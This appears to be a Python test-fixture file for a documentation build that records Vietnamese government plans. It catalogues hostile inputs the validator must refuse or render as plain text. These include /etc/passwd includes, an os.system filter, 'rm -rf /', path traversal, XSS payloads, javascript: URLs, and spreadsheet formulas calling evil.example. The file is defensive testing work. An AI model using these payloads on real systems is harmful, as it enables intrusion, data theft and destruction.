"""Hostile inputs: what somebody may put into ``needs/``, where, and what it tries.

``REFUSED`` and ``FILES`` must give a finding, so that nothing is built. ``SHOWN`` cannot be told from honest
words: it must come out everywhere as the words it is.
"""

import os
import socket
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

PAGE = "needs/kh-1-2026/x.md"
#: Where everything hostile would like to go: reserved for examples, so nobody is there.
EVIL = "http://evil.example"


def agency(*lines: str, title: str = "Cơ quan", key: str = "CQ-ZZ") -> str:
    """An agency with more lines: options, and a body below a blank line."""
    return "\n".join((f":::{{agency}} {title}", f":id: {key}", ":kind: agency", *lines, ":::", ""))


def evidence(*lines: str) -> str:
    """An evidence of the small plan with more options."""
    head = (":::{evidence} Văn bản", ":id: MC-1-2026-9", ":number: 9/BC", ":date: 2026-09-01")
    return "\n".join((*head, ":proves: SP-1-2026-II-1-1", *lines, ":::", ""))


def plan(*lines: str) -> str:
    """Another plan, in a folder of its own, with more options."""
    head = (":::{plan} Kế hoạch", ":id: KH-8-2026", ":number: 8", ":doc_type: Kế hoạch", ":issuer: X")
    return "\n".join((*head, ":issued: 2026-01-01", ":source_status: giả định", *lines, ":::", ""))


#: Drawn as nothing: marks of direction, of joining and of fallback, selectors, fillers, tags.
UNSEEN = (
    "\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u2060\u2063\u206e\u3164\ufe0f\ufeff\uffa0\ufff9"
    "\U0001d173\U000e0041\U000e0101"
)
# name, what is written to PAGE, the rule that refuses it
REFUSED: list[tuple[str, str, str]] = [
    # directives that include, fetch or run
    ("include", "```{include} /etc/passwd\n```\n", "KH013"),
    ("include with colons", ":::{include} /etc/passwd\n:::\n", "KH013"),
    ("include with tildes", "~~~{include} /etc/passwd\n~~~\n", "KH013"),
    ("include indented", "   :::{include} /etc/passwd\n   :::\n", "KH013"),
    ("include in a list", "- ```{include} /etc/passwd\n  ```\n", "KH013"),
    ("include in a quote", "> ```{include} /etc/passwd\n> ```\n", "KH013"),
    ("include in a need", agency("", "```{include} /etc/passwd", "```"), "KH013"),
    ("include in a need, unclosed", agency("", "```{include} /etc/passwd"), "KH013"),
    ("include behind a longer fence", agency("", "::::{include} /etc/passwd", "::::"), "KH013"),
    ("literalinclude", "```{literalinclude} /etc/passwd\n```\n", "KH013"),
    ("reStructuredText", "```{eval-rst}\n.. include:: /etc/passwd\n```\n", "KH013"),
    ("reStructuredText with colons", ":::{eval-rst}\n.. include:: /etc/passwd\n:::\n", "KH013"),
    ("raw HTML by directive", "```{raw} html\n<script>x</script>\n```\n", "KH013"),
    ("raw file", "```{raw} html\n:file: /etc/passwd\n```\n", "KH013"),
    ("a table from an address", f"```{{csv-table}} x\n:url: {EVIL}\n```\n", "KH013"),
    ("needs from elsewhere", f":::{{needimport}} {EVIL}/needs.json\n:::\n", "KH013"),
    ("a service", ":::{needservice} github-issues\n:::\n", "KH013"),
    ("a filter in Python", ":::{needtable}\n:filter: __import__('os').system('id')\n:::\n", "KH013"),
    ("code for a filter", ":::{needtable}\n:filter-func: os.system(id)\n:::\n", "KH013"),
    ("change others' needs", ":::{needextend} NV-1-2026-II-1\n:owner: CQ-X\n:::\n", "KH013"),
    ("a diagram", "```{needuml}\n!include /etc/passwd\n```\n", "KH013"),
    ("a graph", "```{graphviz} /etc/passwd\n```\n", "KH013"),
    ("an image directive", f"```{{figure}} {EVIL}/x.png\n```\n", "KH013"),
    ("another toctree", "```{toctree}\n/docs/decisions\n```\n", "KH013"),
    # roles
    ("raw role", "{raw}`<script>`\n", "KH013"),
    ("download role", "{download}`/conf.py`\n", "KH013"),
    ("role over a line", "{download}\n`/conf.py`\n\n`x`\n", "KH013"),
    ("a role behind its text", "`/conf.py`{l=download}\n", "KH013"),
    # HTML and what becomes it
    ("inline HTML", "<b onclick=x>y</b>\n", "KH013"),
    ("block HTML", "<script>x</script>\n", "KH013"),
    ("HTML in a need", agency("", "<script>x</script>"), "KH013"),
    ("HTML comment", "<!-- x\n:::{agency} Y\n:::\n-->\n", "KH013"),
    ("processing instruction", "<?php x ?>\n", "KH013"),
    ("CDATA", "<![CDATA[ x ]]>\n", "KH013"),
    ("HTML in a footnote", "[^1]: <script>x</script>\n\na[^1]\n", "KH013"),
    ("HTML in a table", "| a |\n|---|\n| <b>x</b> |\n", "KH013"),
    # addresses
    ("image", f"![x]({EVIL}/x.png)\n", "KH013"),
    ("image by reference", f"![x][y]\n\n[y]: {EVIL}/x.png\n", "KH013"),
    ("a file of the machine", "[x](../../../../../../../etc/passwd)\n", "KH013"),
    ("a file of the project", "[x](/conf.py)\n", "KH013"),
    ("another page", "[x](../agencies.md)\n", "KH013"),
    ("an address without scheme", "[x](//evil.example/)\n", "KH013"),
    ("ftp", "[x](ftp://evil.example/)\n", "KH013"),
    ("a program", "[x](ms-word:ofe|u|http://evil.example/)\n", "KH013"),
    ("an inventory", "[x](inv:#y)\n", "KH013"),
    ("a scheme in capitals", f"[x]({EVIL.upper()})\n", "KH013"),
    ("an address elsewhere", "[x]: ftp://evil.example/\n", "KH013"),
    ("script as an address of evidence", evidence(":url: javascript:alert(1)"), "KH019"),
    ("script in capitals", evidence(":url: JAVASCRIPT:alert(1)"), "KH019"),
    ("data as an address of evidence", evidence(":url: data:text/html,<script>x</script>"), "KH019"),
    # other syntax
    ("settings", "---\nmyst:\n  enable_extensions: [html_image]\n---\n", "KH013"),
    ("code", "    rm -rf /\n", "KH013"),
    ("hidden text", "% hidden\n", "KH013"),
    ("target", "(x)=\n", "KH013"),
    ("emphasis in emphasis", f"{'*' * 400}x{'*' * 400}\n", "KH013"),
    ("lists in lists", f"{'- ' * 18}x\n", "KH013"),
    ("a line longer than docutils reads", f"{'x ' * 5001}\n", "KH013"),
    ("brackets", f"{'[' * 40_000}\n", "KH013"),
    ("directives in directives", ":::{x}\n" * 2000, "KH013"),
    ("needs in needs", "".join(f"{':' * (403 - depth)}{{task}} V\n" for depth in range(400)), "KH005"),
    ("an object that is not there", "{need}`CQ-NOPE`\n", "KH116"),
    ("an object that is not there, under a title", "{need}`Sở <CQ-NOPE>`\n", "KH116"),
    ("an object that is not there, in a need", agency("", "{need}`CQ-NOPE`"), "KH116"),
    # functions and templates of sphinx-needs
    ("function in a title", agency(title='[[copy("id")]]'), "KH014"),
    ("function in an option", agency(':scope: [[echo("x")]]'), "KH014"),
    ("function in a text", agency("", '[[echo("x")]]'), "KH013"),
    ("template engine", agency(":jinja_content: true", "", "{{ 1 }}"), "KH011"),
    ("template engine, key quoted", agency(':"jinja_content": true', "", "{{ 1 }}"), "KH011"),
    ("template engine, key quoted, space", agency(':"jinja_content" : true', "", "{{ 1 }}"), "KH011"),
    ("template engine, key escaped", agency(':"jinja_\\x63ontent" : true', "", "{{ 1 }}"), "KH011"),
    ("template engine, after a space", agency(': "jinja_content": true', "", "{{ 1 }}"), "KH011"),
    ("template engine, in YAML", ":::{agency} A\n---\nid: CQ-ZZ\njinja_content: 1\n---\n:::\n", "KH009"),
    ("template file", agency(":template: /etc/passwd"), "KH011"),
    ("style", agency(":style: x;background:url(http://evil.example)"), "KH011"),
    ("layout", agency(":layout: debug"), "KH011"),
    ("computed value", agency(":task_state: done_on_time"), "KH012"),
    # paths
    ("evidence above", evidence(":file: ../../../../etc/passwd"), "KH213"),
    ("evidence with an absolute path", evidence(":file: /etc/passwd"), "KH213"),
    ("evidence a device", evidence(":file: /dev/zero"), "KH213"),
    ("evidence of git", evidence(":file: .git/config"), "KH213"),
    ("evidence that is hidden", evidence(":file: needs/.x.pdf"), "KH213"),
    ("evidence of the project", evidence(":file: conf.py"), "KH213"),
    ("source above", plan(":source: ../secret.txt"), "KH301"),
    ("source of the project", plan(":source: requirements.txt"), "KH301"),
    # names
    ("ID a path", agency(key="CQ-../../X"), "KH016"),
    ("ID markup", agency(key='CQ-"><script>'), "KH016"),
    ("ID with a line of its own", agency(key="CQ-A\u2028B"), "KH003"),
    # characters
    ("terminal codes", agency(title="A\x1b]0;owned\x07"), "KH021"),
    ("order turned round", agency(title="A\u202ecod.exe"), "KH021"),
    ("NUL", agency(title="A\x00B"), "KH021"),
    *((f"unseen U+{ord(sign):04X}", agency(title=f"A{sign}B"), "KH021") for sign in UNSEEN),
    ("unseen in an option", agency(":scope: A\u200bB"), "KH021"),
    ("unseen in a body", agency("", "A\u200bB"), "KH021"),
    ("unseen in a page", "A\u2060B\n", "KH021"),
    ("hidden line end", "x\x0b`y`\n", "KH003"),
]  # fmt: skip


def _link(root: Path, name: str, target: str | Path) -> None:
    (root / name).symlink_to(target)


def _outside(root: Path) -> Path:
    folder = root.parent / "outside"
    folder.mkdir()
    (folder / "evil.md").write_text("# Evil\n\n<script>x</script>\n", encoding="utf-8")
    return folder


def _socket(root: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        here = Path.cwd()
        os.chdir(root / "needs")  # the address of a socket is short
        made.bind("x.md")
        os.chdir(here)


def _pipe(root: Path, name: str) -> None:
    os.mkfifo(root / name)


def _large(root: Path) -> None:
    with (root / "needs/x.md").open("wb") as file:
        file.truncate(2**40)  # a terabyte, of which nothing is on the disk


def _linked_needs(root: Path) -> None:
    (root / "needs").rename(root.parent / "away")
    _link(root, "needs", root.parent / "away")


def _named(root: Path, name: bytes) -> None:
    (Path(os.fsdecode(os.fsencode(root) + b"/needs/" + name))).write_bytes(b"# X\n")


def _twins(root: Path) -> None:
    _named(root, b"trung.md")
    _named(root, b"Trung.md")


def _twin_folders(root: Path) -> None:
    (root / "needs/trung").mkdir()
    (root / "needs/Trung").mkdir()


# name, what is done to the project; each gives KH020
FILES: list[tuple[str, Callable[[Path], None]]] = [
    ("link to a file", lambda root: _link(root, "needs/x.md", _outside(root) / "evil.md")),
    ("link to a folder", lambda root: _link(root, "needs/x", _outside(root))),
    ("link within", lambda root: _link(root, "needs/x.md", "agencies.md")),
    ("link to nothing", lambda root: _link(root, "needs/x.md", "nothing")),
    ("link to itself", lambda root: _link(root, "needs/x", ".")),
    ("link to a device", lambda root: _link(root, "needs/x.md", "/dev/zero")),
    ("link to git's folder", lambda root: _link(root, "needs/x", "../.git")),
    ("needs a link", _linked_needs),
    ("pipe", lambda root: _pipe(root, "needs/x.md")),
    ("pipe beside", lambda root: _pipe(root, "needs/x.txt")),
    ("socket", _socket),
    ("a terabyte", _large),
    ("reStructuredText file", lambda root: _named(root, b"x.rst")),
    ("capitals", lambda root: _named(root, b"x.MD")),
    ("line end in a name", lambda root: _named(root, b"x\n::error::owned.md")),
    ("terminal codes in a name", lambda root: _named(root, b"x\x1b[2J.md")),
    ("no text in a name", lambda root: _named(root, b"x\xff.md")),
    ("name for another system", lambda root: _named(root, b"x<script>.md")),
    *((f"name for Windows: {name}", partial(_named, name=name.encode())) for name in (
        "con.md", "AUX.txt", "nul", "com1.tar.md", "LPT9", "a .md", "a..md", "x.", "x ", "a?.md", "conout$.md"
    )),
    ("names that differ in capitals", _twins),
    ("folders that differ in capitals", _twin_folders),
    ("name decomposed", lambda root: _named(root, "vi\u0323.md".encode())),
]  # fmt: skip


@dataclass(frozen=True)
class Words:
    """Hostile words: their name, the place they are in, and themselves with ``{id}`` for the name."""

    name: str
    place: str
    template: str

    @property
    def text(self) -> str:
        """The words as they are written, and must be shown."""
        return self.template.replace("{id}", self.name)


_OWN = "window.__owned.push('{id}')"
#: Places are those of ``project()``.
SHOWN = [
    Words("s01", "task title", f"<script>{_OWN}</script>"),
    Words("s02", "agency title", f"<img src=x onerror={_OWN}>"),
    Words("s03", "agency abbr", f'A"><svg onload={_OWN}>'),
    Words("s04", "form", f"</script><script>{_OWN}</script>"),
    Words("s05", "funding", "<iframe srcdoc=\"<script>parent.__owned.push('{id}')</script>\">"),
    Words("s06", "target", f"&lt;script&gt;{_OWN}&lt;/script&gt;"),
    Words("s07", "in_charge", f"Giám đốc A' onmouseover={_OWN} x='"),
    Words("s08", "plan title", f"</title><script>{_OWN}</script>"),
    Words("s09", "plan number", f"8/KH<script>{_OWN}</script>"),
    Words("s10", "issuer", f"</style></textarea><script>{_OWN}</script>"),
    Words("s11", "source_status", f"<!--><script>{_OWN}</script>-->"),
    Words("s12", "truncated", f"<object data=javascript:{_OWN}>"),
    Words("s13", "report_to", f"<a href=javascript:{_OWN}>bấm {{id}}</a>"),
    Words("s14", "basis title", f"</svg><script>{_OWN}</script>"),
    Words("s15", "basis number", f"{{{{ 7*7 }}}}${{{_OWN}}}"),
    Words("s16", "basis url", f"https://evil.example/{{id}}\"onmouseover=\"{_OWN}"),
    Words("s17", "evidence title", f"<body onload={_OWN}>"),
    Words("s18", "evidence number", f"<details open ontoggle={_OWN}>"),
    Words("s19", "evidence url", f"https://evil.example/{{id}}?<script>{_OWN}</script>"),
    Words("s20", "result", f"<link rel=stylesheet href={EVIL}/{{id}}.css>"),
    Words("s21", "difficulties", f"<base href={EVIL}/{{id}}/>"),
    Words("s22", "proposal", f"<meta http-equiv=refresh content=0;url={EVIL}/{{id}}>"),
    Words("s23", "directive title", f"<form action={EVIL}><button>{{id}}</button></form>"),
    Words("s24", "waiver reason", f"<math><mtext><script>{_OWN}</script></math>"),
    Words("s25", "frame", f"<script>{_OWN}</script>"),
    Words("s26", "task body", f"javascript:{_OWN} data:text/html,{{id}}"),
    Words("s27", "deliverable title", f"`<script>{_OWN}</script>`"),
    Words("s28", "amendment number", f"<style>@import '{EVIL}/{{id}}.css'</style>"),
    Words("s29", "deliverable kind", f"<video><source onerror={_OWN}></video>"),
    Words("s31", "page name", f"s31 ' onmouseover={_OWN} x=' &amp; %3Cb%3E {{x}} [y](z)"),
    Words("s32", "evidence file", f"s32 ' onmouseover={_OWN} %0A;.txt"),
    Words("s33", "official text", f"<script>{_OWN}</script><img src={EVIL}/{{id}}.png>"),
    Words("s30", "scope", f"<noscript><p title=\"</noscript><img src=x onerror={_OWN}>\">"),
    # spreadsheets, calendars, typesetters
    Words("f01", "task title", f'=HYPERLINK("{EVIL}/{{id}}","x")'),
    Words("f02", "task title", "+1+cmd|' /C calc {id}'!A0"),
    Words("f03", "task title", "-2+3 {id}"),
    Words("f04", "task title", "@SUM(1+1) {id}"),
    Words("f05", "deliverable title", f'=WEBSERVICE("{EVIL}/{{id}}")'),
    Words("f06", "agency title", f'=IMPORTXML("{EVIL}/{{id}}","x")'),
    Words("f07", "task title", "{id}\\nATTENDEE:mailto:x@evil.example"),
    Words("f08", "task title", f"{{id}};X=1,ATTACH:{EVIL}"),
    Words("f09", "task title", '#read("/etc/passwd") {id} $x$ @y = z'),
    Words("f10", "task title", "{id} ]]> &x; <w:t>"),
    Words("f11", "task title", '{ INCLUDEPICTURE "http://evil.example/{id}" }'),
    Words("f12", "task title", "| x | ![y](http://evil.example/{id}) <b>z</b>"),
]  # fmt: skip


_HEAD = """\
# Kế hoạch (giả định)

:::{{plan}} {plan title}
:id: KH-8-2026
:number: {plan number}
:doc_type: Kế hoạch
:issuer: {issuer}
:issued: 2026-01-01
:source: giả định
:source_status: {source_status}
:truncated: {truncated}
:report_period: quarter
:report_cutoff: 14
:report_by: 20
:report_to: {report_to}
:basis: CC-8
:::

:::{{basis}} {basis title}
:id: CC-8
:number: {basis number}
:url: {basis url}
:::

:::{{basis}} Quyết định gia hạn
:id: CC-9
:number: {amendment number}
:::

:::{{frame}}
{frame}
:::

:::{{evidence}} {evidence title}
:id: MC-8-1
:number: {evidence number}
:url: {evidence url}
:date: 2026-02-01
:confirmed: yes
:proves: SP-8-S01
:::

:::{{evidence}} Tệp
:id: MC-8-2
:date: 2026-02-01
:proves: SP-8-S01
:file: needs/kh-8-2026/{evidence file}
:sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
:::

:::{{update}} Tiến độ
:id: BC-8-1
:on: NV-8-S01
:date: 2026-02-01
:result: {result}
:difficulties: {difficulties}
:proposal: {proposal}
:::

:::{{directive}} {directive title}
:id: YK-8-1
:on: NV-8-S01
:date: 2026-02-01
:::

:::{{amendment}} Gia hạn
:id: DC-8-1
:amends: NV-8-S01
:deadline: Quý IV năm 2026
:number: {amendment number}
:date: 2026-02-01
:issuer: {issuer}
:basis: CC-9
:::

:::{{waiver}} Chưa rõ
:id: MT-8-1
:rule: KH201
:waives: NV-8-W
:reason: {waiver reason}
:decided_by: Giám đốc
:date: 2026-02-01
:::

:::{{task}} Chưa rõ thời hạn
:id: NV-8-W
:clause: 9
:owner: CQ-8-S02
:partners: CQ-8-F06
:deliverables: SP-8-S27
:form: {form}
:funding: {funding}
:target: {target}
:in_charge: {in_charge}

{task body}
:::
"""
_TASK = """
:::{{task}} {text}
:id: NV-8-{key}
:clause: {key}
:owner: CQ-8-S02
:deadline: Quý I năm 2026
:deliverables: SP-8-{key}
:::

:::{{deliverable}} Sản phẩm {key}
:id: SP-8-{key}
:origin: stated
:::
"""
_AGENCY = ":::{{agency}} {text}\n:id: CQ-8-{key}\n:abbr: {abbr}\n:kind: agency\n:scope: {scope}\n:::\n"
_DELIVERABLE = ":::{{deliverable}} {text}\n:id: SP-8-{key}\n:kind: {kind}\n:origin: derived\n:::\n"


def show(root: Path) -> None:
    """Add a plan to the small project that has all the words of ``SHOWN`` in their places."""
    at = {words.place: words.text for words in SHOWN}
    several = {"task title": _TASK, "agency title": _AGENCY, "deliverable title": _DELIVERABLE}
    more = {"abbr": at["agency abbr"], "scope": at["scope"], "kind": at["deliverable kind"]}
    pages = [_HEAD.format(**at)]
    pages += [
        several[words.place].format(text=words.text, key=words.name.upper(), **more)
        for words in SHOWN
        if words.place in several
    ]
    folder = root / "needs" / "kh-8-2026"
    folder.mkdir()
    (folder / at["evidence file"]).touch()
    (folder / "ke-hoach.md").write_text("\n".join(pages), encoding="utf-8")
    named = f"# Trang\n\n{agency(title='Cơ quan của trang', key='CQ-8-P')}"
    held = root / "needs" / "kh-7-2026"
    held.mkdir()
    (held / "source.txt").write_text(at["official text"], encoding="utf-8")
    framed = plan(":source: needs/kh-7-2026/source.txt").replace("8", "7")
    framed += f"\n:::{{frame}}\n{at['official text']}\n:::\n"
    (held / "ke-hoach.md").write_text(f"# Kế hoạch\n\n{framed}", encoding="utf-8")
    (folder / f"{at['page name']}.md").write_text(named + _USED, encoding="utf-8")


#: Agencies and deliverables that nothing uses are findings.
_USED = """
:::{task} Dùng
:id: NV-8-U
:clause: U
:owner: CQ-8-P
:partners: CQ-8-F06
:deadline: Quý I năm 2026
:deliverables: SP-8-F05
:::
"""
